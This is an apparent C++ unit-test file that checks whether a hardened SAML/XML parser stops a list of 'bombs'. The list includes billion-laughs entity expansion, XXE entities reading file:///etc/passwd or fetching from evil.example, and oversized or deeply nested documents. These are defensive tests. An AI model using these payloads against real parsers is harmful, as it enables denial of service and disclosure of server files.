// Every attack of this program is also tried on the hardened road, where it is stopped or comes to
// what it comes to without limits. Here stand the bombs, each of which must be stopped.
#include "hostile/attacks/hardened_road.h"

#include "hostile/attacks/provider.h"
#include "hostile/attacks/refusals.h"

#include <gtest/gtest.h>

#include <iostream>
#include <string>
#include <vector>

namespace Saml::Attacks {
namespace {

std::string Repeated(const std::string& text, std::size_t count) {
    std::string repeated;
    for (std::size_t i = 0; i != count; ++i)
        repeated += text;
    return repeated;
}

/// Entities, each made of ten of the one before.
std::string Laughs(const std::string& mark) {
    std::string declarations;
    for (int level = 1; level != 20; ++level)
        declarations += "<!ENTITY " + mark + "e" + std::to_string(level) + " '" +
                        Repeated("&e" + std::to_string(level - 1) + ";", 10) + "'>";
    return declarations;
}

struct Bomb {
    std::string name;
    std::string text;
};

std::vector<Bomb> Bombs() {
    const std::string token = Provider::Signed(Provider::CustomerSpec());
    return {
        {"NestedEntities", WithDtd(Laughs(""), "<a>&e19;</a>")},
        {"NestedParameterEntities", WithDtd(Laughs("% "), "<a/>")},
        {"OneLongEntityOften",
         WithDtd("<!ENTITY e '" + std::string(100000, 'x') + "'>", Repeated("&e;", 100))},
        {"ChainOfEntities", WithDtd("<!ENTITY a '&b;'><!ENTITY b '&c;'><!ENTITY c 'x'>", token)},
        {"EntityThatNobodyUses", WithDtd("<!ENTITY e 'x'>", token)},
        {"ExternalEntity", WithDtd("<!ENTITY e SYSTEM 'file:///etc/passwd'>", token)},
        {"ExternalParameterEntity", WithDtd("<!ENTITY % e SYSTEM 'http://evil.example/'>", token)},
        {"UnparsedEntity",
         WithDtd("<!NOTATION n SYSTEM 'n'><!ENTITY e SYSTEM 'e' NDATA n>", token)},
        {"LongDefaultAttributes",
         WithDtd("<!ATTLIST saml:Audience x CDATA '" + std::string(1100000, 'x') + "'>", token)},
        {"TooDeep", Repeated("<a>", 66) + Repeated("</a>", 66)},
        {"TooWide", "<a>" + Repeated("<b/>", 10000) + "</a>"},
        {"TooManyComments", "<a>" + Repeated("<!---->", 10000) + "</a>"},
        {"TooManySections", "<a>" + Repeated("<![CDATA[]]>", 10000) + "</a>"},
        {"TooMuchText", "<a>" + std::string(1 << 20, 'x') + "</a>"},
        {"TooLongAnAttribute", "<a x='" + std::string(1 << 20, 'x') + "'/>"},
        {"TooLongAComment", "<!--" + std::string(1 << 20, 'x') + "--><a/>"},
        {"TooLongAnInstruction", "<?a " + std::string(1 << 20, 'x') + "?><a/>"},
    };
}

TEST(HardenedRoad, StopsEveryBomb) {
    const std::vector<Bomb> bombs = Bombs();
    for (const Bomb& bomb : bombs)
        for (const Resolver& trust : {Provider::TrustInTheRoot(), Provider::TrustInTheSigner()})
            EXPECT_EQ(OutcomeWithinLimits(bomb.text, trust), Stopped()) << bomb.name;
    std::cout << bombs.size() << " bombs\n";
}

TEST(HardenedRoad, LetsTokensPass) {
    const Forge::TokenSpec spec = Provider::CustomerSpec();
    for (const Resolver& trust : {Provider::TrustInTheRoot(), Provider::TrustInTheSigner()})
        EXPECT_EQ(OutcomeWithinLimits(Provider::Signed(spec), trust), Accepted(spec));
}

}  // namespace
}  // namespace Saml::Attacks
